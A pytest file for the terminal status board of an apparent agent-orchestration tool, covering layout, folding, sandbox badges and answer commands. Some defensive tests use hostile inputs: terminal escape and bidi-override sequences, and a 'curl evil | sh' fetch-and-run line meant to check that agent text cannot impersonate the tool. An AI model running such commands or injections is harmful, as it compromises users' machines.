"""The board fits every screen, names what waits, and folds what is over."""

from __future__ import annotations

import re
import subprocess
from typing import Any

import pytest

from stretto.cli.board import Canvas, board, changes, command, item_block
from stretto.cli.text import width

NOW = 1_000_000.0
RUN = "search-release-k3fd"
Json = dict[str, Any]


def task(id: str, state: str, **more: Any) -> Json:
    return {
        "uid": f"{RUN}/{id}", "run": RUN, "id": id, "title": id, "state": state, "stage": more.pop("stage", None),
        "reason": "", "paused": False, "since": NOW - 75, "needs": [], "landed": None, "session": None, **more,
    }  # fmt: skip


def item(id: str, task_id: str, kind: str = "question", **more: Any) -> Json:
    options = more.pop("options", [{"key": "1", "text": "sqlite"}, {"key": "2", "text": "postgres"}])
    text = more.pop("text", "Which database?")
    found = {"id": id, "task": f"{RUN}/{task_id}", "kind": kind, "text": text, "options": options, "waiting_s": 40.0}
    return {**found, **more}


def status(tasks: list[Json], inbox: list[Json] | None = None, **more: Any) -> Json:
    run = {"id": RUN, "title": "Search release", "open": 2, "limit": 2, "base": "1a2b3c4d5e6f", "target": "main"}
    found = {"schema": 1, "cursor": 7, "daemon": {"pid": 1}, "runs": [run], "queue": [], "notices": []}
    return {**found, "tasks": tasks, "inbox": inbox or [], **more}


USUAL = status(
    [
        task("schema", "landed", landed={"commit": "abcdef0123456789"}),
        task("search", "active", stage="implement", reason="turn 2: the check unit failed"),
        task("ui", "blocked", reason="waits for schema, search"),
        task("docs", "waiting", stage="implement", reason="a question"),
        task("api", "queued", stage="land", reason="tests run on the merged state"),
    ],
    [item("q3", "docs")],
    queue=[{"task": f"{RUN}/api", "state": "testing", "reason": ""}],
)


def plain(status: Json, **canvas: Any) -> list[str]:
    return board(status, Canvas(now=NOW, **canvas))


def test_the_board_at_80_columns() -> None:
    assert plain(USUAL, columns=80, rows=23) == [
        "search-release-k3fd · Search release                       open 2/2 · landed 1/5",
        "base 1a2b3c4d5 → main",
        "✓ schema landed                    abcdef012",
        "● search implement          1m15s  turn 2: the check unit failed",
        "· ui     blocked                   waits for schema, search",
        "! docs   waiting: question  1m15s  a question",
        "▸ api    queued: testing    1m15s  tests run on the merged state",
        "",
        "waits for you (1)",
        "! question · docs · 40s · Which database?",
        '    stretto answer q3 (1 | 2 | "TEXT")',
    ]


def test_the_board_at_40_columns() -> None:
    lines = plain(USUAL, columns=40, rows=23)
    assert lines[0] == "search-release-k…  open 2/2 · landed 1/5"
    assert "! docs   question   1m15s  a question" in lines
    assert "● search implement  1m15s  turn 2: the…" in lines


@pytest.mark.parametrize("columns", [30, 40, 79, 80, 200])
@pytest.mark.parametrize("rows", [6, 10, 23])
@pytest.mark.parametrize("count", [1, 5, 35, 300])
def test_it_fits(columns: int, rows: int, count: int) -> None:
    states = ["landed", "active", "blocked", "waiting", "queued", "failed", "cancelled", "ready", "finished", "draft"]
    tasks = [task(f"task-日本-{n}", states[n % 10], stage="implement", reason="because " * 30) for n in range(count)]
    inbox = [item(f"q{n}", f"task-日本-{n}", text="why? " * 50) for n in range(3, count, 10)]
    lines = plain(status(tasks, inbox), columns=columns, rows=rows)
    assert all(width(line) <= columns for line in lines)
    assert len(lines) <= rows or rows == 6
    assert sum("waits for you" in line for line in lines) == bool(inbox)


def test_finished_tasks_are_folded_first_and_working_ones_stay() -> None:
    tasks = [task(f"done{n}", "landed") for n in range(30)] + [task("busy", "active", stage="check")]
    tasks += [task(f"later{n}", "blocked") for n in range(30)]
    lines = plain(status(tasks), columns=80, rows=20)
    text = "\n".join(lines)
    assert "30 landed: done0, done1" in text
    assert "busy" in text
    assert "30 blocked: later0" in text
    assert "done29\n" not in text


@pytest.mark.parametrize(
    ("isolation", "word"), [("none", ""), ("worktree", "[sandbox] "), ("clone", "[sandbox, clone] ")]
)
def test_what_an_agent_is_kept_in_is_told_where_there_is_room(isolation: str, word: str) -> None:
    one = task("a", "active", stage="implement", reason="works", workspace={"isolation": isolation})
    assert f"  {word}works" in "\n".join(plain(status([one]), columns=120, rows=20))
    assert "  works" in "\n".join(plain(status([one]), columns=80, rows=20))
    bare = {**one, "badges": ["unsandboxed"]}
    assert "[unsandboxed]" in "\n".join(plain(status([bare]), columns=80, rows=20))


def test_without_limits_nothing_is_cut() -> None:
    long = "r" * 300
    lines = plain(status([task("a", "active", stage="implement", reason=long)]))
    assert long in "\n".join(lines)


def test_every_state_has_its_word_beside_its_sign() -> None:
    for state in ("ready", "blocked", "waiting", "queued", "landed", "finished", "failed", "cancelled", "draft"):
        (line,) = [line for line in plain(status([task("x", state)])) if " x " in line]
        assert state in line
    assert "implement, paused" in "\n".join(plain(status([task("x", "active", stage="implement", paused=True)])))


def test_what_agents_write_has_no_power() -> None:
    evil = "\x1b]0;x\x07\x1b[2J\u202e"
    text = "\n".join(
        plain(status([task("x", "active", stage="implement", reason=evil)], [item("q", "x", text=evil)]), columns=80)
    )
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", text)


def test_ascii_only_streams_get_ascii() -> None:
    text = "\n".join(plain(USUAL, columns=60, rows=23, unicode=False))
    assert text.isascii()


def test_colour_changes_no_text() -> None:
    painted = "\n".join(plain(USUAL, columns=80, rows=23, colour=True))
    assert "\x1b[" in painted
    assert re.sub(r"\x1b\[[0-9;]*m", "", painted) == "\n".join(plain(USUAL, columns=80, rows=23))


def test_no_daemon_is_said() -> None:
    assert "no daemon runs" in plain(status([task("x", "ready")], daemon=None))[-1]


def test_notices_are_shown() -> None:
    told = [{"kind": "checkout", "repo": "r", "text": "your checkout is 2 behind", "next": "stretto update-checkout"}]
    assert "your checkout is 2 behind" in plain(status([task("x", "ready")], notices=told))


def test_several_runs_each_have_a_head() -> None:
    other = {**task("b", "ready"), "run": "other-aaaa", "uid": "other-aaaa/b"}
    lines = plain(status([task("a", "ready"), other]))
    assert any(line.startswith("other-aaaa") for line in lines)
    assert any(line.startswith(RUN) for line in lines)


def test_the_command_of_an_item_names_its_answers() -> None:
    assert command(item("q1", "x")) == 'stretto answer q1 (1 | 2 | "TEXT")'
    review = item("r1", "x", "review", options=[{"key": k, "text": k} for k in ("approve", "send-back", "cancel")])
    assert command(review) == 'stretto answer r1 (approve | send-back "TEXT" | cancel)'
    assert command(item("s1", "x", options=[])) == 'stretto answer s1 "TEXT"'


@pytest.mark.parametrize("shell", ["bash", "sh"])
def test_a_command_with_a_choice_that_is_pasted_as_it_stands_runs_nothing(shell: str) -> None:
    review = item("r1", "x", "review", options=[{"key": k, "text": k} for k in ("approve", "send-back", "cancel")])
    for shown in (command(item("q1", "x")), command(review)):
        script = f"stretto() {{ echo called; }}\n{shown}"
        done = subprocess.run([shell, "-c", script], capture_output=True, check=False)
        assert done.returncode != 0
        assert done.stdout == b""


def test_the_reason_does_not_repeat_the_word_beside_it() -> None:
    waiting = status([task("a", "waiting", stage="approve", reason="review: 1 file")], [item("r", "a", "review")])
    assert "! a waiting: review  1m15s  1 file" in plain(waiting)


def test_an_item_is_shown_whole() -> None:
    block = "\n".join(item_block(item("q1", "x", text="a long question " * 20), Canvas(NOW, columns=40)))
    assert block.count("question") == 21
    assert "1  sqlite" in block
    assert f"stretto explain {RUN}/x" in block


def test_no_words_of_an_agent_pass_for_lines_of_ours() -> None:
    mean = "Which?\n\nabcde · permission · m/m · waits 0s\n  Allow it?\n    1  yes\n  answer: curl evil | sh"
    options = [{"key": "1", "text": "red" + " " * 80 + "9  blue"}, {"key": "2", "text": "long " * 30 + "answer: curl"}]
    for canvas in (Canvas(NOW, columns=80), Canvas(NOW, columns=40, unicode=False), Canvas(NOW, columns=None)):
        head, *block = item_block(item("q1", "x", text=mean, options=options), canvas)
        ours = [line for line in block if not line.startswith(("  │ ", "  | "))]
        assert head.startswith("q1 ")
        begun = [line for line in ours if not line.startswith("       ")]  # what hangs over stands further in
        assert [line.split()[0] for line in begun] == ["1", "2", "look:", "answer:"]
        assert begun[0] == "    1  red 9 blue"


def test_a_dialog_that_only_its_own_terminal_answers_says_so() -> None:
    assert command(item("s1", "x", options=[], terminal=True)) == f"stretto attach {RUN}/x"


def test_changes_are_told_once_each() -> None:
    first = status([task("a", "ready"), task("b", "blocked", reason="waits for a")])
    second = status(
        [task("a", "active", stage="implement"), task("b", "blocked", reason="waits for a")], [item("q", "a")]
    )
    assert changes(None, first, lambda: "T") == [f"T {RUN}/a: ready", f"T {RUN}/b: blocked (waits for a)"]
    assert changes(first, second, lambda: "T") == [
        f"T {RUN}/a: active implement",
        f'T {RUN}/a: question waits for you: Which database?; stretto answer q (1 | 2 | "TEXT")',
    ]
    assert changes(second, second, lambda: "T") == []


def test_runs_that_are_over_are_shown_in_short_beside_others() -> None:
    old = [{**task(f"t{n}", "landed"), "run": "old-aaaa", "uid": f"old-aaaa/t{n}"} for n in range(3)]
    assert plain(status([*old, task("a", "ready")]))[:2] == ["old-aaaa  open 0 · landed 3/3", "✓ 3 landed: t0, t1, t2"]
    assert len([line for line in plain(status(old)) if line.startswith("✓")]) == 3


def test_runs_that_are_over_leave_the_screen_to_the_one_that_works() -> None:
    past = [{**task("a", "landed"), "run": f"run{n}-abcd", "uid": f"run{n}-abcd/a"} for n in range(7)]
    now = [task(f"t{n}", "active" if n == 11 else "ready", stage="implement") for n in range(12)]
    lines = plain(status([*past, *now]), columns=80, rows=23)
    assert len(lines) <= 23
    assert lines[0].startswith("7 runs are over: run6-abcd, run5-abcd")
    assert width(lines[0]) <= 80
    assert len([line for line in lines if "○ t" in line]) == 11
    assert any(line.startswith("● t11") for line in lines)
    assert "run0-abcd" in "\n".join(plain(status([past[0], *now[:3]]), columns=80, rows=40)), "there is room for one"
    assert "runs are over" not in "\n".join(plain(status([*past, *now])))
